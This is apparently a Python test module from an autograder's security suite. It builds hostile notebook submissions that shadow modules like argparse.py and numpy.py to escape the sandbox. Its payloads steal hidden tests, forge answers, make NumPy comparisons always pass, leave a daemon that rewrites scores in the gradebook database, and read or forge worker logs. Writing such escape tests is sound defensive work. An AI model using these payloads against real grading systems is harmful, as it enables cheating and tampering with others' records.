"""Escapes: a file shipped next to the notebook that the grader's own processes or the kernel import.

The kernel launcher (``python -m autograder.safety.sandbox_kernel``) and the kernel (``python -m
ipykernel_launcher``) start in the notebook's working copy, and ``python -m`` puts the working
directory first on ``sys.path``. A submission that ships ``argparse.py``, ``autograder/``,
``numpy.py`` or ``ipykernel_launcher.py`` has its code imported instead of the real module --
outside the sandbox for the launcher. The secure outcome: the file is inert (or the kernel
refuses to start with a reason), the stubs score zero, nothing is written outside the job.
"""

from .cases import NOTEBOOK, WRONG_SIGMOID, Case, Expected, answer, append
from .kit import Outcome, one_line, reported_number, stub_filler_code, with_cell_after

# Code run by an escaped launcher (the grader's user, no sandbox): find the course from the
# `grade --course DIR` process above it, steal the hidden tests, leave a marker.
ESCAPED_PRELUDE = r'''
import os as _os
import sys as _sys


def _ancestors():
    pid, seen = _os.getpid(), []
    while pid > 1 and len(seen) < 30:
        try:
            with open(f"/proc/{pid}/stat") as handle:
                pid = int(handle.read().rsplit(")", 1)[1].split()[1])
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                seen.append((pid, handle.read().split(b"\0")))
        except (OSError, ValueError, IndexError):
            break
    return seen


def _course_root():
    for _, words in _ancestors():
        words = [word.decode(errors="replace") for word in words]
        if "--course" in words:
            return words[words.index("--course") + 1]
    return None


def _leave_marker(name):
    course = _course_root()
    for folder in filter(None, [course, "/tmp"]):
        try:
            with open(_os.path.join(folder, name), "w") as handle:
                handle.write("written outside the job by a submission\n")
        except OSError:
            pass
    return course


def _steal_hidden_tests(course, destination):
    stolen = []
    for folder, _, files in _os.walk(_os.path.join(course, "source")) if course else []:
        for name in files:
            if name.endswith(".ipynb"):
                with open(_os.path.join(folder, name), errors="replace") as handle:
                    stolen += [line for line in handle.read().split("\\n") if "hidden_canary" in line]
    with open(destination, "w") as handle:
        handle.write("\n".join(stolen))
'''

REAL_MODULE = r'''
def _real_module(name):
    here = _os.path.dirname(_os.path.abspath(__file__))
    saved = list(_sys.path)
    _sys.path[:] = [p for p in _sys.path if _os.path.abspath(p or _os.getcwd()) != here]
    _sys.modules.pop(name, None)
    try:
        module = __import__(name)
    finally:
        _sys.path[:] = saved
    _sys.modules[name] = module
    return module
'''

PRINT_STOLEN = '''
import os
if os.path.exists("stolen.txt"):
    print("stolen hidden tests:", open("stolen.txt").read())
'''


def _kernel_command_with(extra_argument, drop_sandbox):
    return f'''
if "--" in _sys.argv:
    _split = _sys.argv.index("--")
    _kernel = _sys.argv[_split + 1:]
    if {drop_sandbox!r} and "--" in _kernel:
        _kernel = _kernel[len(_kernel) - 1 - _kernel[::-1].index("--") + 1:]
    _sys.argv[_split + 1:] = _kernel + [{extra_argument!r}]
'''


def shadow_argparse_forges_stubs(kit):
    name = "shadow_argparse_forges_stubs"
    filler = "--IPKernelApp.exec_lines=" + repr([one_line(stub_filler_code())])
    module = (ESCAPED_PRELUDE + REAL_MODULE + f"\n_leave_marker({kit.marker(name)!r})\n"
              + _kernel_command_with(filler, drop_sandbox=True)
              + "\n_real = _real_module('argparse')\nglobals().update(vars(_real))\n")
    return {NOTEBOOK: kit.release, "argparse.py": module.encode()}


def shadow_grader_package_reads_hidden_tests(kit):
    name = "shadow_grader_package_reads_hidden_tests"
    launcher = ESCAPED_PRELUDE + f'''
_course = _leave_marker({kit.marker(name)!r})
_steal_hidden_tests(_course, "stolen.txt")
_arguments = _sys.argv[1:]
_kernel = _arguments[len(_arguments) - 1 - _arguments[::-1].index("--") + 1:]
_os.execvp(_kernel[0], _kernel)
'''
    notebook = append(kit.source, "sigmoid_answer", PRINT_STOLEN)
    return {NOTEBOOK: notebook, "autograder/__init__.py": b"", "autograder/safety/__init__.py": b"",
            "autograder/safety/sandbox_kernel.py": launcher.encode()}


def process_outlives_job_rewrites_gradebook(kit):
    name = "process_outlives_job_rewrites_gradebook"
    daemon = ESCAPED_PRELUDE + REAL_MODULE + f'''
def _rewrite_later():
    import sqlite3
    import time
    course = _leave_marker({kit.marker(name)!r})
    grade_pid = next((pid for pid, words in _ancestors() if b"grade" in words), None)
    if not course or grade_pid is None or _os.fork() != 0:
        return
    _os.setsid()
    if _os.fork() != 0:
        _os._exit(0)
    _os.closerange(0, 1024)
    with open("/tmp/{kit.marker(name)}.pid", "w") as handle:
        handle.write(str(_os.getpid()))
    deadline = time.time() + 300
    while _os.path.exists(f"/proc/{{grade_pid}}") and time.time() < deadline:
        time.sleep(0.2)
    time.sleep(1.0)
    try:
        with sqlite3.connect(_os.path.join(course, "gradebook.db")) as database:
            database.execute(
                "UPDATE grade SET manual_score = (SELECT max_score FROM grade_cells "
                "WHERE grade_cells.id = grade.cell_id) WHERE notebook_id IN (SELECT submitted_notebook.id "
                "FROM submitted_notebook JOIN submitted_assignment ON submitted_assignment.id = "
                "submitted_notebook.assignment_id WHERE submitted_assignment.student_id = ?)", ({name!r},))
    except Exception:
        pass
    _os._exit(0)


_rewrite_later()
_real = _real_module("argparse")
globals().update(vars(_real))
'''
    return {NOTEBOOK: kit.release, "argparse.py": daemon.encode()}


NUMPY_FORGING_STUBS = "import os as _os\nimport sys as _sys\n" + REAL_MODULE + '''
_real = _real_module("numpy")
globals().update(vars(_real))
''' + stub_filler_code()

NUMPY_ALWAYS_CLOSE = "import os as _os\nimport sys as _sys\n" + REAL_MODULE + '''
_real = _real_module("numpy")
_real.allclose = lambda *args, **kwargs: True
_real.isclose = lambda *args, **kwargs: True
globals().update(vars(_real))
'''


def shadow_numpy_forges_stubs(kit):
    return {NOTEBOOK: kit.release, "numpy.py": NUMPY_FORGING_STUBS.encode()}


def shadow_numpy_always_close(kit):
    return {NOTEBOOK: answer(kit.source, "sigmoid_answer", WRONG_SIGMOID), "numpy.py": NUMPY_ALWAYS_CLOSE.encode()}


def shadow_ipykernel_launcher(kit):
    launcher = '''
import os
import sys

here = os.path.dirname(os.path.abspath(__file__))
sys.path[:] = [p for p in sys.path if os.path.abspath(p or os.getcwd()) != here]
sys.argv.append("--IPKernelApp.exec_lines=" + repr([''' + repr(one_line(stub_filler_code())) + ''']))
from ipykernel import kernelapp

kernelapp.launch_new_instance()
'''
    return {NOTEBOOK: kit.release, "ipykernel_launcher.py": launcher.encode()}


WORKER_LOG_PROBE = r'''
import os
import re
import stat

readable, foreign = 0, set()
for entry in os.listdir("/proc/self/fd"):
    try:
        if not stat.S_ISREG(os.fstat(int(entry)).st_mode):
            continue
        with open(f"/proc/self/fd/{entry}", "rb") as handle:
            data = handle.read(50_000_000).decode("utf-8", "replace")
        readable += 1
        foreign |= {name for name in re.findall(r"jobs/\d{4}-([A-Za-z0-9_]+?)-0[01]_", data) if name != "%(name)s"}
        with open(f"/proc/self/fd/{entry}", "a") as handle:
            handle.write("\nFORGED-LOG-%(token)s worker log line written by a submission\n")
    except (OSError, ValueError):
        pass
print(f"worker_log: readable={readable} foreign_students={len(foreign)}")
'''


def worker_log_via_proc_fd(kit):
    code = WORKER_LOG_PROBE % {"name": "worker_log_via_proc_fd", "token": kit.token}
    return {NOTEBOOK: with_cell_after(kit.source, "test_mse", code)}


def check_worker_log(outcome: Outcome):
    text = outcome.outputs_text()
    assert reported_number(text, "foreign_students") in (0, None), text[-300:]
    forged = f"FORGED-LOG-{outcome.graded['token']}"
    for log in outcome.course.root.glob("report/logs/**/*"):
        if log.is_file() and outcome.student not in str(log):
            assert forged not in log.read_text(errors="replace"), log


WRITE_EVERYWHERE = r'''
import os
written = 0
places = ["/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), "/"]
folder = os.getcwd()
while folder != "/":
    folder = os.path.dirname(folder)
    places.append(folder)
for place in places:
    try:
        with open(os.path.join(place, "%(marker)s"), "w") as handle:
            handle.write("x")
        written += 1
    except OSError:
        pass
print(f"write_everywhere: attempted={len(places)}")
'''


def writes_outside_from_kernel(kit):
    code = WRITE_EVERYWHERE % {"marker": kit.marker("writes_outside_from_kernel")}
    return {NOTEBOOK: with_cell_after(kit.source, "test_mse", code)}


def check_gradebook_not_rewritten(outcome: Outcome):
    from autograder.course.directory import open_gradebook

    with open_gradebook(outcome.course) as gradebook:
        submission = gradebook.find_submission(outcome.case.assignment, outcome.student)
        assert submission.score == 0.0, f"the gradebook says {submission.score} after grading ended"


CASES = [
    Case("shadow_argparse_forges_stubs", "argparse.py next to the untouched release: imported by the kernel launcher "
         "outside the sandbox, it drops bwrap and fills in the stubs", shadow_argparse_forges_stubs,
         Expected("graded", 0.0, phrase=None), takes_kit=True, escapes=True),
    Case("shadow_grader_package_reads_hidden_tests",
         "autograder/safety/sandbox_kernel.py next to a correct notebook: the launcher reads course/source "
         "and the answer cell prints the hidden tests",
         shadow_grader_package_reads_hidden_tests, Expected("graded", 3.0), takes_kit=True, escapes=True),
    Case("process_outlives_job_rewrites_gradebook", "argparse.py leaves a process that rewrites its own score "
         "in gradebook.db after grade returned", process_outlives_job_rewrites_gradebook,
         Expected("graded", 0.0), takes_kit=True, escapes=True, check=check_gradebook_not_rewritten),
    Case("shadow_numpy_forges_stubs", "numpy.py next to the release: the guard imports it as NumPy before its "
         "snapshot, and it fills in the stubs", shadow_numpy_forges_stubs,
         Expected("failed", 0.0, phrase="the kernel could not start: numpy.py in the submission shadows NumPy"),
         takes_kit=True),
    Case("shadow_numpy_always_close", "numpy.py whose allclose/isclose always agree, with the wrong sigmoid",
         shadow_numpy_always_close,
         Expected("failed", 0.0, phrase="the kernel could not start: numpy.py in the submission shadows NumPy"),
         takes_kit=True),
    Case("shadow_ipykernel_launcher", "ipykernel_launcher.py next to the release: the kernel starts through it "
         "and fills in the stubs", shadow_ipykernel_launcher, Expected("graded", 0.0, phrase=None), takes_kit=True),
    Case("worker_log_via_proc_fd", "reads and appends to the files open in the kernel (the worker's log) "
         "through /proc/self/fd", worker_log_via_proc_fd, Expected("graded", 3.0), takes_kit=True,
         check=check_worker_log),
    Case("writes_outside_from_kernel", "writes a file into /tmp, /var/tmp, /dev/shm, HOME and every folder above "
         "its working folder", writes_outside_from_kernel, Expected("graded", 3.0), takes_kit=True, escapes=True),
]
